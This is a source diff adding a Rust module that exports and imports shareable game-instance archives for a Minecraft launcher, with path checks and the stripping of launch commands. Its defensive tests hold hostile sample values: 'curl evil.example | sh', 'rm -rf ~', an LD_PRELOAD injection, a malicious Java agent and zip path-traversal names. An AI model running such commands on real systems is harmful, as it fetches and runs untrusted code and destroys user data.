@@ -0,0 +1,607 @@
+//! Portable instance archives, for sharing instances.
+//!
+//! An archive is a zip file containing [`MANIFEST_NAME`], the `instance.helix.json` of the
+//! instance, its icon if it is a file, and the selected files of the game directory under
+//! `.minecraft/`. Every path in an archive is checked before anything is unpacked, so an archive
+//! can't write outside of the instance it is imported as. The commands, environment and JVM
+//! options of the instance are neither exported nor imported, so an archive can't run anything.
+
+use std::{
+    fs::{self, File},
+    io,
+    path::{Path, PathBuf},
+    time::SystemTime,
+};
+
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use thiserror::Error;
+use zip::{result::ZipError, write::FileOptions, CompressionMethod, ZipArchive, ZipWriter};
+
+use crate::{
+    fsutil::check_path,
+    launch::instance::{
+        unix_time, Instance, InstanceBuilder, InstanceConfig, InstanceGroup, InstanceIcon,
+        InstanceLaunchConfig, InstanceManagerError, INSTANCE_CONFIG_NAME,
+    },
+    meta::MetaClient,
+};
+
+/// Describes the archive, see [`ArchiveManifest`]
+pub const MANIFEST_NAME: &str = "manifest.helix.json";
+/// The version of the archive format written by this version of the launcher
+pub const FORMAT_VERSION: u32 = 1;
+
+/// The folder of the game directory in archives
+const GAME_DIR_NAME: &str = ".minecraft";
+/// The folders of the game directory that are always exported
+const DEFAULT_INCLUDE: [&str; 3] = ["config", "mods", "resourcepacks"];
+
+#[derive(Error, Debug)]
+pub enum ArchiveError {
+    #[error("{0}")]
+    IoError(#[from] io::Error),
+
+    #[error(transparent)]
+    ParseError(#[from] serde_json::Error),
+
+    #[error(transparent)]
+    ZipError(#[from] ZipError),
+
+    #[error(transparent)]
+    InstanceError(#[from] InstanceManagerError),
+
+    #[error("Not a Helix instance archive, {0} is missing")]
+    NotAnArchive(&'static str),
+
+    #[error("The archive was made by a newer launcher (format version {0})")]
+    UnsupportedFormat(u32),
+
+    #[error("The archive contains the unsafe path {0}")]
+    UnsafePath(String),
+}
+
+/// Information about an archive, stored in it as [`MANIFEST_NAME`]
+#[derive(Serialize, Deserialize, Debug, Clone)]
+pub struct ArchiveManifest {
+    /// See [`FORMAT_VERSION`]
+    pub format_version: u32,
+    /// The version of the launcher that made the archive
+    pub launcher_version: String,
+    /// Seconds since the Unix epoch
+    pub exported: u64,
+    /// The patterns the files of the game directory were selected with, see [`ExportOptions`]
+    pub include: Vec<String>,
+    pub exclude: Vec<String>,
+}
+
+/// The files of the game directory to export. The `config`, `mods` and `resourcepacks` folders
+/// are always included.
+///
+/// Patterns are globs over paths relative to the game directory, with `/` between folders.
+/// `*` and `?` match within a file name and `**` matches any number of folders, e.g.
+/// `**/*.disabled`. A pattern that matches a folder matches everything in it.
+#[derive(Debug, Default, Clone)]
+pub struct ExportOptions {
+    saves: bool,
+    include: Vec<String>,
+    exclude: Vec<String>,
+}
+
+impl ExportOptions {
+    /// Also export the worlds.
+    pub fn saves(self, saves: bool) -> Self {
+        Self { saves, ..self }
+    }
+
+    /// Patterns of more files to export, e.g. `options.txt`.
+    pub fn include(self, include: Vec<String>) -> Self {
+        Self { include, ..self }
+    }
+
+    /// Patterns of files to leave out, even if they are included.
+    pub fn exclude(self, exclude: Vec<String>) -> Self {
+        Self { exclude, ..self }
+    }
+
+    fn include_patterns(&self) -> Vec<String> {
+        let mut include: Vec<_> = DEFAULT_INCLUDE.map(String::from).into();
+        if self.saves {
+            include.push(String::from("saves"));
+        }
+        include.extend(self.include.iter().cloned());
+        include
+    }
+}
+
+/// Export `instance` as an archive at `to`. Playtime and the Java path are left out, they only
+/// make sense on this computer, and so are the launch commands, environment and JVM options.
+/// Returns the number of files exported from the game directory.
+pub fn export(
+    instance: &Instance,
+    to: &Path,
+    options: &ExportOptions,
+) -> Result<usize, ArchiveError> {
+    let manifest = ArchiveManifest {
+        format_version: FORMAT_VERSION,
+        launcher_version: env!("CARGO_PKG_VERSION").to_string(),
+        exported: unix_time(SystemTime::now()),
+        include: options.include_patterns(),
+        exclude: options.exclude.clone(),
+    };
+    let include: Vec<_> = manifest.include.iter().map(|p| glob(p)).collect();
+    let exclude: Vec<_> = manifest.exclude.iter().map(|p| glob(p)).collect();
+    let mut files = vec![];
+    game_files(&instance.get_game_dir(), "", &mut files)?;
+    files.retain(|(name, path)| {
+        include.iter().any(|glob| glob.is_match(name))
+            && !exclude.iter().any(|glob| glob.is_match(name))
+            // when exporting into the game directory
+            && path.as_path() != to
+    });
+    files.sort();
+
+    let result = write_archive(instance, to, &manifest, &files);
+    if result.is_err() {
+        let _ = fs::remove_file(to);
+    }
+    result.map(|()| files.len())
+}
+
+fn write_archive(
+    instance: &Instance,
+    to: &Path,
+    manifest: &ArchiveManifest,
+    files: &[(String, PathBuf)],
+) -> Result<(), ArchiveError> {
+    let mut config = instance.config.clone();
+    config.launch = shareable_launch(&config.launch);
+    config.metadata.created = None;
+    config.metadata.last_played = None;
+    config.metadata.playtime = 0;
+
+    let mut zip = ZipWriter::new(File::create(to)?);
+    let options = FileOptions::default().compression_method(CompressionMethod::Deflated);
+    zip.start_file(MANIFEST_NAME, options)?;
+    serde_json::to_writer_pretty(&mut zip, manifest)?;
+    zip.start_file(INSTANCE_CONFIG_NAME, options)?;
+    serde_json::to_writer_pretty(&mut zip, &config)?;
+    if let Some(InstanceIcon::File(icon)) = instance.icon() {
+        let name = icon.file_name().unwrap().to_string_lossy();
+        if !is_reserved(&name) {
+            zip.start_file(name, options)?;
+            io::copy(&mut File::open(&icon)?, &mut zip)?;
+        }
+    }
+    for (name, path) in files {
+        zip.start_file(format!("{GAME_DIR_NAME}/{name}"), options)?;
+        io::copy(&mut File::open(path)?, &mut zip)?;
+    }
+    zip.finish()?;
+    Ok(())
+}
+
+/// The launch options of an archive. The commands, environment and JVM options are left out, an
+/// archive from someone else could otherwise run anything, and so is the Java path.
+fn shareable_launch(launch: &InstanceLaunchConfig) -> InstanceLaunchConfig {
+    InstanceLaunchConfig {
+        args: launch.args.clone(),
+        hook_timeout: launch.hook_timeout,
+        argfile: launch.argfile,
+        javalaunch: launch.javalaunch,
+        allocation: launch.allocation.clone(),
+        ..Default::default()
+    }
+}
+
+/// Whether `name` is a file of the archive itself, which can't be the icon.
+fn is_reserved(name: &str) -> bool {
+    name == INSTANCE_CONFIG_NAME || name == MANIFEST_NAME
+}
+
+/// Collect the files in `dir` with their paths relative to the game directory, `prefix` being
+/// the path of `dir`. Symlinks are followed, so shared worlds are exported too.
+fn game_files(dir: &Path, prefix: &str, files: &mut Vec<(String, PathBuf)>) -> io::Result<()> {
+    for entry in fs::read_dir(dir)? {
+        let path = entry?.path();
+        let name = format!("{prefix}{}", path.file_name().unwrap().to_string_lossy());
+        if path.is_dir() {
+            game_files(&path, &format!("{name}/"), files)?;
+        } else {
+            files.push((name, path));
+        }
+    }
+    Ok(())
+}
+
+/// Compile a pattern of [`ExportOptions`].
+fn glob(pattern: &str) -> Regex {
+    let mut regex = String::from("^");
+    let mut chars = pattern.trim_matches('/').chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '*' if chars.peek() == Some(&'*') => {
+                chars.next();
+                // `**/` also matches no folder at all
+                if chars.next_if_eq(&'/').is_some() {
+                    regex.push_str("(?:.*/)?");
+                } else {
+                    regex.push_str(".*");
+                }
+            }
+            '*' => regex.push_str("[^/]*"),
+            '?' => regex.push_str("[^/]"),
+            c => regex.push_str(&regex::escape(c.encode_utf8(&mut [0; 4]))),
+        }
+    }
+    // everything in a matching folder
+    regex.push_str("(?:/.*)?$");
+    Regex::new(&regex).unwrap()
+}
+
+/// An instance archive, opened to be imported
+pub struct InstanceArchive {
+    pub manifest: ArchiveManifest,
+    pub config: InstanceConfig,
+    zip: ZipArchive<File>,
+}
+
+impl InstanceArchive {
+    /// Open the archive at `path`, checking the paths of all files in it.
+    pub fn open<P: AsRef<Path>>(path: P) -> Result<Self, ArchiveError> {
+        let mut zip = ZipArchive::new(File::open(path)?)?;
+        if let Some(name) = zip
+            .file_names()
+            .find(|name| !check_path(name.trim_end_matches('/')))
+        {
+            return Err(ArchiveError::UnsafePath(name.to_string()));
+        }
+
+        let manifest: ArchiveManifest = match zip.by_name(MANIFEST_NAME) {
+            Ok(file) => serde_json::from_reader(file)?,
+            Err(ZipError::FileNotFound) => return Err(ArchiveError::NotAnArchive(MANIFEST_NAME)),
+            Err(e) => return Err(e.into()),
+        };
+        if manifest.format_version > FORMAT_VERSION {
+            return Err(ArchiveError::UnsupportedFormat(manifest.format_version));
+        }
+        let config = match zip.by_name(INSTANCE_CONFIG_NAME) {
+            Ok(file) => serde_json::from_reader(file)?,
+            Err(ZipError::FileNotFound) => {
+                return Err(ArchiveError::NotAnArchive(INSTANCE_CONFIG_NAME))
+            }
+            Err(e) => return Err(e.into()),
+        };
+        Ok(Self {
+            manifest,
+            config,
+            zip,
+        })
+    }
+
+    /// Make the instance, in `group` if set, after checking the components against meta.
+    pub async fn import(
+        self,
+        meta_client: &MetaClient<'_>,
+        instances_dir: &Path,
+        group: Option<&InstanceGroup>,
+    ) -> Result<Instance, ArchiveError> {
+        let instance = self
+            .builder()
+            .group(group)
+            .build(meta_client, instances_dir)
+            .await?;
+        self.unpack(instance)
+    }
+
+    fn builder(&self) -> InstanceBuilder {
+        let mut metadata = self.config.metadata.clone();
+        metadata.icon = self.icon().map(String::from);
+        Instance::builder(self.config.name.clone())
+            .components(self.config.components.clone())
+            .launch(shareable_launch(&self.config.launch))
+            .metadata(metadata)
+    }
+
+    fn icon(&self) -> Option<&str> {
+        self.config
+            .metadata
+            .icon
+            .as_deref()
+            .filter(|icon| !is_reserved(icon))
+    }
+
+    /// Unpack the files into the newly created `instance`, deleting it if that fails.
+    fn unpack(mut self, instance: Instance) -> Result<Instance, ArchiveError> {
+        match self.unpack_files(&instance) {
+            Ok(()) => Ok(instance),
+            Err(e) => {
+                let _ = fs::remove_dir_all(&instance.path);
+                Err(e)
+            }
+        }
+    }
+
+    fn unpack_files(&mut self, instance: &Instance) -> Result<(), ArchiveError> {
+        let icon = self.icon().map(String::from);
+        let game_dir_prefix = format!("{GAME_DIR_NAME}/");
+        for i in 0..self.zip.len() {
+            let mut entry = self.zip.by_index(i)?;
+            let name = entry.name().to_string();
+            // the paths were checked when opening the archive
+            let path = instance.path.join(&name);
+            if !name.starts_with(&game_dir_prefix) && Some(&name) != icon.as_ref() {
+                continue;
+            }
+            if entry.is_dir() {
+                fs::create_dir_all(&path)?;
+                continue;
+            }
+            fs::create_dir_all(path.parent().unwrap())?;
+            io::copy(&mut entry, &mut File::create(&path)?)?;
+        }
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::{collections::BTreeMap, io::Write};
+
+    use crate::{
+        launch::instance::{Component, RamAllocation, MINECRAFT_COMPONENT_ID},
+        testutil::meta_config,
+    };
+
+    use super::*;
+
+    fn evil_config(launch: InstanceLaunchConfig) -> InstanceConfig {
+        InstanceConfig {
+            name: String::from("Evil"),
+            components: vec![Component {
+                id: String::from(MINECRAFT_COMPONENT_ID),
+                version: String::from("1.20.4"),
+            }],
+            launch,
+            metadata: Default::default(),
+        }
+    }
+
+    /// Write an archive by hand, with `files` after the manifest and `config`.
+    fn write_zip(
+        path: &Path,
+        config: &InstanceConfig,
+        files: &[(&str, &[u8])],
+    ) -> Result<(), Box<dyn std::error::Error>> {
+        let mut zip = ZipWriter::new(File::create(path)?);
+        zip.start_file(MANIFEST_NAME, FileOptions::default())?;
+        serde_json::to_writer(
+            &mut zip,
+            &ArchiveManifest {
+                format_version: FORMAT_VERSION,
+                launcher_version: String::new(),
+                exported: 0,
+                include: vec![],
+                exclude: vec![],
+            },
+        )?;
+        zip.start_file(INSTANCE_CONFIG_NAME, FileOptions::default())?;
+        serde_json::to_writer(&mut zip, config)?;
+        for (name, contents) in files {
+            zip.start_file(*name, FileOptions::default())?;
+            zip.write_all(contents)?;
+        }
+        zip.finish()?;
+        Ok(())
+    }
+
+    #[test]
+    fn globs() {
+        let matches = |pattern, path| glob(pattern).is_match(path);
+        assert!(matches("mods", "mods/sodium.jar"));
+        assert!(!matches("mods", "modsets/a.jar"));
+        assert!(matches("mods/*.jar", "mods/sodium.jar"));
+        assert!(!matches("mods/*.jar", "mods/old/sodium.jar"));
+        assert!(matches("**/*.disabled", "mods/a.jar.disabled"));
+        assert!(matches("**/*.disabled", "b.disabled"));
+        assert!(matches("config/**", "config/a/b.toml"));
+        assert!(matches("options?.txt", "options1.txt"));
+        assert!(!matches("options.txt", "optionsXtxt"));
+    }
+
+    #[test]
+    fn round_trip() -> Result<(), Box<dyn std::error::Error>> {
+        let dir = tempfile::tempdir()?;
+        let mut instance = Instance::builder(String::from("Repro"))
+            .component("net.minecraft", "1.20.4")
+            .create(&dir.path().join("instances"))?;
+        instance.config.launch.javapath = Some(String::from("/usr/bin/java"));
+        instance.config.launch.prelaunch_command = Some(String::from("./sync.sh"));
+        instance.config.launch.allocation = Some(RamAllocation {
+            min: 1024,
+            max: 4096,
+        });
+        instance.config.metadata.playtime = 120;
+        instance.config.metadata.icon = Some(String::from("icon.png"));
+        instance.save_config()?;
+        fs::write(instance.path.join("icon.png"), "png")?;
+        let game_dir = instance.get_game_dir();
+        for file in [
+            "mods/sodium.jar",
+            "mods/old.jar.disabled",
+            "config/sodium.json",
+            "resourcepacks/pack.zip",
+            "saves/World/level.dat",
+            "logs/latest.log",
+            "options.txt",
+        ] {
+            fs::create_dir_all(game_dir.join(file).parent().unwrap())?;
+            fs::write(game_dir.join(file), file)?;
+        }
+
+        let archive = dir.path().join("repro.zip");
+        let options = ExportOptions::default()
+            .include(vec![String::from("options.txt")])
+            .exclude(vec![String::from("**/*.disabled")]);
+        assert_eq!(export(&instance, &archive, &options)?, 4);
+
+        let archive = InstanceArchive::open(&archive)?;
+        assert_eq!(archive.manifest.format_version, FORMAT_VERSION);
+        assert_eq!(archive.config.name, "Repro");
+        assert_eq!(archive.config.launch.prelaunch_command, None);
+        let imported = archive.builder().create(&dir.path().join("imported"))?;
+        let imported = InstanceArchive::open(dir.path().join("repro.zip"))?.unpack(imported)?;
+        assert_eq!(imported.config.launch.javapath, None);
+        assert_eq!(
+            imported.config.launch.allocation.as_ref().map(|a| a.max),
+            Some(4096)
+        );
+        assert_eq!(imported.config.metadata.playtime, 0);
+        assert_eq!(
+            imported.icon(),
+            Some(InstanceIcon::File(imported.path.join("icon.png")))
+        );
+        let game_dir = imported.get_game_dir();
+        for (file, exported) in [
+            ("mods/sodium.jar", true),
+            ("mods/old.jar.disabled", false),
+            ("config/sodium.json", true),
+            ("resourcepacks/pack.zip", true),
+            ("saves/World/level.dat", false),
+            ("logs/latest.log", false),
+            ("options.txt", true),
+        ] {
+            assert_eq!(game_dir.join(file).is_file(), exported, "{file}");
+        }
+        assert_eq!(
+            fs::read_to_string(game_dir.join("mods/sodium.jar"))?,
+            "mods/sodium.jar"
+        );
+
+        let with_saves = dir.path().join("with-saves.zip");
+        assert_eq!(
+            export(
+                &instance,
+                &with_saves,
+                &ExportOptions::default().saves(true)
+            )?,
+            5
+        );
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn import_with_meta() -> Result<(), Box<dyn std::error::Error>> {
+        let dir = tempfile::tempdir()?;
+        let config = meta_config(dir.path(), &[(MINECRAFT_COMPONENT_ID, &["1.20.4"])]).await?;
+        let meta_client = MetaClient::new(&config);
+        let instances_dir = config.get_instances_path();
+
+        let instance = Instance::builder(String::from("Shared"))
+            .component(MINECRAFT_COMPONENT_ID, "1.20.4")
+            .build(&meta_client, &instances_dir)
+            .await?;
+        let game_dir = instance.get_game_dir();
+        fs::create_dir_all(game_dir.join("mods"))?;
+        fs::write(game_dir.join("mods/sodium.jar"), "sodium")?;
+        let archive = dir.path().join("shared.zip");
+        assert_eq!(export(&instance, &archive, &ExportOptions::default())?, 1);
+
+        let group = InstanceGroup::create(&instances_dir, String::from("Friends"))?;
+        let imported = InstanceArchive::open(&archive)?
+            .import(&meta_client, &instances_dir, Some(&group))
+            .await?;
+        assert_ne!(imported.path, instance.path);
+        assert_eq!(imported.path.parent(), Some(group.path.as_path()));
+        let imported = Instance::from_id(&instances_dir, imported.id())?;
+        assert_eq!(imported.config.name, "Shared");
+        assert_eq!(
+            fs::read_to_string(imported.get_game_dir().join("mods/sodium.jar"))?,
+            "sodium"
+        );
+
+        let unknown = dir.path().join("unknown.zip");
+        write_zip(
+            &unknown,
+            &InstanceConfig {
+                components: vec![Component {
+                    id: String::from(MINECRAFT_COMPONENT_ID),
+                    version: String::from("1.99"),
+                }],
+                ..evil_config(Default::default())
+            },
+            &[],
+        )?;
+        assert!(InstanceArchive::open(&unknown)?
+            .import(&meta_client, &instances_dir, None)
+            .await
+            .is_err());
+        assert!(Instance::from_id(&instances_dir, "evil").is_err());
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn untrusted_archive() -> Result<(), Box<dyn std::error::Error>> {
+        let dir = tempfile::tempdir()?;
+        let config = meta_config(dir.path(), &[(MINECRAFT_COMPONENT_ID, &["1.20.4"])]).await?;
+        let meta_client = MetaClient::new(&config);
+        let instances_dir = config.get_instances_path();
+
+        let mut config = evil_config(InstanceLaunchConfig {
+            jvm_args: Some(vec![String::from("-javaagent:evil.jar")]),
+            prelaunch_command: Some(String::from("curl evil.example | sh")),
+            postlaunch_command: Some(String::from("rm -rf ~")),
+            wrapper_commands: Some(vec![vec![String::from("evil")]]),
+            env: Some(BTreeMap::from([(
+                String::from("LD_PRELOAD"),
+                String::from("evil.so"),
+            )])),
+            env_remove: Some(vec![String::from("HOME")]),
+            javapath: Some(String::from("/tmp/evil")),
+            ..Default::default()
+        });
+        for icon in [INSTANCE_CONFIG_NAME, MANIFEST_NAME] {
+            config.metadata.icon = Some(String::from(icon));
+            let path = dir.path().join("evil.zip");
+            write_zip(&path, &config, &[])?;
+
+            let imported = InstanceArchive::open(&path)?
+                .import(&meta_client, &instances_dir, None)
+                .await?;
+            let imported = Instance::from_id(&instances_dir, imported.id())?;
+            let launch = &imported.config.launch;
+            assert_eq!(launch.jvm_args, None);
+            assert_eq!(launch.prelaunch_command, None);
+            assert_eq!(launch.postlaunch_command, None);
+            assert_eq!(launch.wrapper_commands, None);
+            assert_eq!(launch.env, None);
+            assert_eq!(launch.env_remove, None);
+            assert_eq!(launch.javapath, None);
+            assert_eq!(imported.config.metadata.icon, None);
+            assert!(!imported.path.join(MANIFEST_NAME).exists());
+        }
+        Ok(())
+    }
+
+    #[test]
+    fn unsafe_paths() -> Result<(), Box<dyn std::error::Error>> {
+        let dir = tempfile::tempdir()?;
+        let config = evil_config(Default::default());
+        for evil in [
+            "../evil.txt",
+            ".minecraft/../../evil.txt",
+            "/tmp/evil.txt",
+            "C:\\evil.txt",
+            ".minecraft\\..\\..\\evil.txt",
+        ] {
+            let path = dir.path().join("evil.zip");
+            write_zip(&path, &config, &[(evil, b"evil")])?;
+
+            assert!(
+                matches!(InstanceArchive::open(&path), Err(ArchiveError::UnsafePath(name)) if name == evil),
+                "{evil}"
+            );
+        }
+        Ok(())
+    }
+}